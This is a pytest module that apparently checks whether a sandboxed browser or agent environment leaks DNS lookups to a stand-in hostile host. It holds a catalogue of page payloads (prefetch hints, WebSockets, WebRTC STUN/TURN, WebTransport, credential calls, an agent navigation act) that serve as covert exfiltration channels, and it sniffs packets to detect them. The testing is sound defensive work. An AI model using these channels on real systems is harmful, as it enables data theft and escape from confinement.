"""No page makes the browser look up a name: a name can carry what a page has read. A packet socket of this machine is the judge."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress

import pytest

from .attack import Attack, Campaign, carry_out_all, environments, loaded, marked, plain, pressed
from .egress_connections import ICE
from .hostile import Answer, Attacker, attacker, until

pytestmark = pytest.mark.asyncio(loop_scope="module")
EVERYTHING = 3
"""Ethernet protocol of a packet socket that sees all packets."""
QUESTION = re.compile(rb"([a-z0-9-]+)[\x00-\x3f]exact-hostile\x07invalid", re.I)
HOST = "NAME.exact-hostile.invalid"
RULES = '{"prefetch": [{"urls": ["http://HOST/"], "eagerness": "immediate"}]}'


def named(attack: Attack) -> Attack:
    """Return an attack with the host whose look-up shows that it succeeded."""
    files = {path: Answer(answer.body.replace(b"HOST", HOST.encode()), answer.kind) for path, answer in attack.files.items()}
    headers = tuple((name, value.replace("HOST", HOST)) for name, value in attack.headers)
    acts = tuple(each.replace("HOST", HOST) for each in attack.acts)
    return Attack(attack.name, attack.page.replace("HOST", HOST), headers, files, acts, attack.hole, attack.sandbox_hole, attack.works)


def ice(url: str) -> str:
    return ICE.replace("SERVERS", f"{{urls: '{url}', username: 'a', credential: 'b'}}")


LOOKED_UP = (
    plain("picture", "<img src=http://HOST/i alt=x><style>p { background: url(//HOST/b) }</style><p>x"),
    plain("prefetch-link", "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//HOST>", works=False),
    plain("links-to-be-prefetched", "<meta http-equiv=x-dns-prefetch-control content=on><a href=http://HOST/>x</a>", works=False),
    plain("prefetch-header", "<p>x", headers=(("Link", "<//HOST>; rel=dns-prefetch"), ("X-DNS-Prefetch-Control", "on")), works=False),
    plain("preconnect-link", "<link rel=preconnect href=http://HOST>", works=False),
    plain("rules", f"<script type=speculationrules>{RULES}</script>", works=False),
    plain("refresh", "<meta http-equiv=refresh content='0; url=http://HOST/'>"),
    plain("playlist", "<video src=l.m3u8 autoplay muted></video>", files={"l.m3u8": Answer(
        b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://HOST/s.ts\n#EXT-X-ENDLIST\n", "application/vnd.apple.mpegurl")}),
    loaded("frame-socket", "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket('ws://HOST/')"),
    loaded("worker-socket", "new Worker('data:text/javascript,new WebSocket(\"wss://HOST/\");fetch(\"http://HOST\")')"),
    pressed("socket", "new WebSocket('wss://HOST/')"),
    pressed("go", "location = 'http://HOST/'"),
    pressed("popup", "open('http://HOST/', '_blank', 'noopener')"),
    pressed("stun", ice("stun:HOST:3478")),
    pressed("turn-tcp", ice("turn:HOST:3478?transport=tcp")),
    pressed("turn-tls", ice("turns:HOST:443")),
    pressed("remote-candidate", "const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x');"
            "await a.setLocalDescription(await a.createOffer()); await b.setRemoteDescription(a.localDescription);"
            "await b.setLocalDescription(await b.createAnswer()); await a.setRemoteDescription(b.localDescription);"
            "await a.addIceCandidate({candidate: 'candidate:1 1 udp 2122260223 HOST 9 typ host', sdpMid: '0'})", works=False),
    pressed("web-transport", "new WebTransport('https://HOST/').ready.catch(() => 0)"),
    pressed("sign-in", "navigator.credentials.get({identity: {providers: [{configURL: 'https://HOST/c', clientId: 'x'}]}}).catch(() => 0)"),
    pressed("passkey", "navigator.credentials.get({publicKey: {challenge: new Uint8Array(9), rpId: 'HOST'}}).catch(() => 0)"),
    Attack("agent-goes", "<p>x", acts=('goto "http://HOST/"',)),
)  # fmt: skip
ATTACKS = tuple(map(named, LOOKED_UP))


class Listener:
    """The names below `exact-hostile.invalid` that this machine asked about."""

    def __init__(self) -> None:
        self.names: set[str] = set()
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(EVERYTHING))
        self._socket.settimeout(0.2)
        self._ended = False
        self._thread = threading.Thread(target=self._listen, daemon=True)

    def _listen(self) -> None:
        while not self._ended:
            with suppress(TimeoutError):
                for name in QUESTION.findall(self._socket.recv(4096)):
                    self.names.add(name.decode().lower())

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *args: object) -> None:
        self._ended = True
        self._thread.join()
        self._socket.close()


@pytest.fixture(scope="module")
def site() -> Iterator[Attacker]:
    with attacker() as made:
        yield made


@pytest.fixture(scope="module")
def campaign(request: pytest.FixtureRequest, executable: str, site: Attacker) -> Campaign[bool]:
    """Carry out the attacks in live environments of one kind, and say of each whether its name was looked up."""

    async def all_of(kind: str, names: set[str]) -> dict[str, bool]:
        try:
            listening = Listener()
        except (OSError, AttributeError) as error:
            pytest.skip(f"packets of this machine cannot be read: {error}")
        with listening as listener:
            with suppress(OSError):
                socket.getaddrinfo("control.exact-hostile.invalid", 80)
            if not until(lambda: "control" in listener.names, 2):
                pytest.skip("look-ups of this machine are not packets that it sees")
            async with environments(kind) as factory:
                attacks = tuple(each for each in ATTACKS if each.name in names)
                await carry_out_all(attacks, site, factory, simulation=False)
            return {name: name in listener.names for name in names}

    return Campaign(request, all_of)


@pytest.mark.parametrize(("kind", "attack"), marked(ATTACKS))
async def test_a_page_makes_nobody_look_up_a_name(campaign: Campaign[bool], kind: str, attack: Attack) -> None:
    assert not await campaign.result(kind, attack)
